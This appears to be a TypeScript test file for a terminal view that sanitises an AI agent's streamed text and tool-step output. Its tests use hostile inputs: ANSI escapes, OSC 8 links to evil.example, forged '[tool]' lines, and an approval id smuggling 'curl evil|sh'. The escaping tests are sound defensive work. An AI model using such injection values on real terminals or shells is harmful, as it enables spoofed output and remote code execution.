import { describe, expect, it } from 'vitest';
import { hasUnsafeChars } from '@tether/protocol';
import { safeStreamText } from '../output.js';
import { AgentStreamView, formatDuration, toolResultLines, toolStartLine } from './agent-view.js';

const ESC = '\x1b';
const OSC8 = `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`;

function assistant(text: string, delta?: string) {
  return { stream: 'assistant', data: { text, delta: delta ?? text } };
}

/** Nothing a terminal interprets, apart from the line breaks and tabs streamed text keeps. */
function inert(text: string): boolean {
  return !hasUnsafeChars(text.replace(/[\n\t]/g, ''));
}

describe('safeStreamText', () => {
  it('removes ESC, CR, C1, DEL and bidi characters but keeps line breaks and tabs', () => {
    expect(safeStreamText(`a${ESC}[2J${ESC}[31mred\r\nb\tc\x9b2K\x7f\u202eok\u2028d`)).toBe('a[2J[31mred\nb\tc2Kok\nd');
  });

  it('leaves an OSC 8 link inert, its target visible', () => {
    const out = safeStreamText(OSC8);
    expect(inert(out)).toBe(true);
    expect(out).toContain('https://evil.example/');
  });

  it('removes a sequence split across chunks (stateless per character)', () => {
    expect(safeStreamText(`x${ESC}`) + safeStreamText('[2Ky')).toBe('x[2Ky');
  });
});

describe('AgentStreamView: assistant text', () => {
  it('writes only the new part of the cumulative text', () => {
    const view = new AgentStreamView();
    expect(view.event(assistant('Hel'))).toBe('Hel');
    expect(view.event(assistant('Hello', 'lo'))).toBe('lo');
    expect(view.event(assistant('Hello\nworld', '\nworld'))).toBe('\nworld');
    expect(view.end()).toBe('\n');
    expect(view.end()).toBe('');
  });

  it('strips ANSI escapes, OSC 8 links and \\r overwrites, keeping newlines', () => {
    const view = new AgentStreamView();
    const hostile = `Sure.\r${ESC}[2K${ESC}[1A fake prompt$ \n${OSC8}\n${ESC}[8mhidden${ESC}[0m`;
    let out = '';
    // Streamed a few characters at a time, so sequences are split across events.
    for (let i = 1; i <= hostile.length; i += 3) out += view.event(assistant(hostile.slice(0, i), hostile.slice(i - 3 < 0 ? 0 : i - 3, i)));
    out += view.event(assistant(hostile, ''));
    out += view.end();
    expect(inert(out)).toBe(true);
    expect(out).not.toContain('\r');
    expect(out).toContain('hidden');
    expect(out.split('\n')).toHaveLength(4);
  });

  it('a new assistant message after a tool step is written whole, on its own line', () => {
    const view = new AgentStreamView();
    let out = view.event(assistant('Let me look.'));
    out += view.event({ stream: 'tool', data: { phase: 'start', name: 'nodes', toolCallId: 't1', args: {} } });
    out += view.event({ stream: 'tool', data: { phase: 'result', name: 'nodes', toolCallId: 't1', isError: false, durationMs: 20 } });
    out += view.event(assistant('It is sunny.'));
    out += view.end();
    expect(out).toBe('Let me look.\n[tool] nodes …\n[tool] nodes · ok 20ms\nIt is sunny.\n');
  });

  it('final() adds the part of the reply whose deltas never came as events', () => {
    const view = new AgentStreamView();
    view.event(assistant('The answer'));
    expect(view.final({ result: { payloads: [{ text: 'The answer is 42.\x1b[2J' }], meta: { durationMs: 1, agentMeta: { sessionId: 's', sessionKey: 'k' } } } })).toBe(' is 42.[2J\n');
  });

  it('a rewritten (non-extending) text adds only its delta and never re-prints', () => {
    const view = new AgentStreamView();
    expect(view.event(assistant('abc'))).toBe('abc');
    expect(view.event(assistant('xbcd', 'd'))).toBe('d');
  });

  it('final() shows the result text when nothing streamed, and nothing twice', () => {
    const silent = new AgentStreamView();
    const final = { result: { payloads: [{ text: `one${ESC}[2J` }, { text: 'two' }], meta: { durationMs: 1, agentMeta: { sessionId: 's', sessionKey: 'k' } } } };
    const out = silent.final(final);
    expect(out).toBe('one[2J\n\ntwo\n');
    const streamed = new AgentStreamView();
    streamed.event(assistant('one'));
    expect(streamed.final(final)).toBe('\n');
  });

  it('shows a lifecycle error as one escaped line', () => {
    const view = new AgentStreamView();
    view.event(assistant('partial'));
    const out = view.event({ stream: 'lifecycle', data: { phase: 'error', error: `model\r${ESC}[2Kdown\nreally` } });
    expect(out).toBe('\n[error] model \\x1b[2Kdown really\n');
  });

  it('ignores other streams and malformed data', () => {
    const view = new AgentStreamView();
    expect(view.event({ stream: 'lifecycle', data: { phase: 'start' } })).toBe('');
    expect(view.event({ stream: 'usage', data: {} })).toBe('');
    expect(view.event({ stream: 'assistant', data: { text: 42 } as never })).toBe('');
    expect(view.event({ stream: 'tool', data: null as never })).toBe('');
  });
});

describe('tool steps', () => {
  const start = { phase: 'start', name: 'nodes', toolCallId: 'c1', args: { command: 'camera.snap' }, node: 'kitchen-pi' };

  it('a start line names the tool, node and command', () => {
    expect(toolStartLine(start)).toBe('[tool] nodes · node kitchen-pi · camera.snap …');
  });

  it('a result line has outcome, duration and one line per saved file', () => {
    const lines = toolResultLines({ phase: 'result', name: 'nodes', toolCallId: 'c1', isError: false, durationMs: 1234, node: 'kitchen-pi', command: 'camera.snap', savedTo: ['/home/me/.tether/media/a.jpg', '/home/me/.tether/media/b.jpg'] });
    expect(lines).toEqual([
      '[tool] nodes · node kitchen-pi · camera.snap · ok 1.2s',
      '       saved /home/me/.tether/media/a.jpg',
      '       saved /home/me/.tether/media/b.jpg',
    ]);
  });

  it('a failed step shows its summary on one line', () => {
    expect(toolResultLines({ phase: 'result', name: 'nodes', isError: true, durationMs: 50, summary: 'node\noffline' })).toEqual(['[tool] nodes · failed 50ms: node offline']);
  });

  it('a call blocked before it ran ({phase:end, error}) is a failure with its reason', () => {
    expect(toolResultLines({ phase: 'end', name: 'nodes', toolCallId: 'c', error: 'blocked by\npolicy' })).toEqual(['[tool] nodes · failed: blocked by policy']);
  });

  it('a pending approval says how to approve it, with the id quoted for the shell', () => {
    expect(toolResultLines({ phase: 'result', name: 'nodes', node: 'pi', command: 'system.run', isError: false, durationMs: 5, pendingApprovalId: 'ab12cd' })).toEqual([
      '[tool] nodes · node pi · system.run · waiting for approval 5ms',
      '       waiting for approval ab12cd: tether approvals approve ab12cd',
    ]);
    const [, hint] = toolResultLines({ phase: 'result', name: 'nodes', pendingApprovalId: "x; curl evil|sh\x1b[8m" });
    expect(hint).toBe("       waiting for approval x; curl evil|sh\\x1b[8m: tether approvals approve $'x; curl evil|sh\\x1b[8m'");
  });

  it('the result takes name, node and command from its start when it omits them', () => {
    const view = new AgentStreamView();
    view.event({ stream: 'tool', data: start });
    expect(view.event({ stream: 'tool', data: { phase: 'result', toolCallId: 'c1', isError: false, durationMs: 3 } })).toBe('[tool] nodes · node kitchen-pi · camera.snap · ok 3ms\n');
  });

  it('escapes hostile tool names, node names, commands and paths: each step stays one inert line', () => {
    const view = new AgentStreamView();
    const hostile = {
      phase: 'result',
      toolCallId: 'c2',
      name: `nodes\r${ESC}[2K[tool] fake`,
      node: `pi\n[tool] forged · ok`,
      command: `${OSC8}`,
      isError: false,
      durationMs: 1,
      savedTo: [`/tmp/a.jpg\r${ESC}[1Afake`, 42],
      summary: `ok\u202edone`,
    };
    const out = view.event({ stream: 'tool', data: { ...hostile, phase: 'start', args: {} } }) + view.event({ stream: 'tool', data: hostile });
    const lines = out.split('\n').slice(0, -1);
    expect(lines).toHaveLength(3);
    for (const line of lines) expect(hasUnsafeChars(line)).toBe(false);
    expect(lines[1]).toContain('nodes\\x0d\\x1b[2K[tool] fake');
    expect(lines[1]).toContain('pi\\x0a[tool] forged');
    expect(lines[1]).toContain('\\x1b]8;;https://evil.example/');
    expect(lines[1]).toContain('ok\\u{202e}done');
    expect(lines[2]).toBe('       saved /tmp/a.jpg\\x0d\\x1b[1Afake');
  });

  it('a tool step after streamed text starts on a fresh line', () => {
    const view = new AgentStreamView();
    view.event(assistant('Checking'));
    expect(view.event({ stream: 'tool', data: start })).toBe('\n[tool] nodes · node kitchen-pi · camera.snap …\n');
  });
});

describe('formatDuration', () => {
  it('formats milliseconds for people and rejects nonsense', () => {
    expect(formatDuration(999)).toBe('999ms');
    expect(formatDuration(1500)).toBe('1.5s');
    expect(formatDuration(125_000)).toBe('2m5s');
    expect(formatDuration(-1)).toBeUndefined();
    expect(formatDuration('5')).toBeUndefined();
    expect(formatDuration(Number.NaN)).toBeUndefined();
  });
});
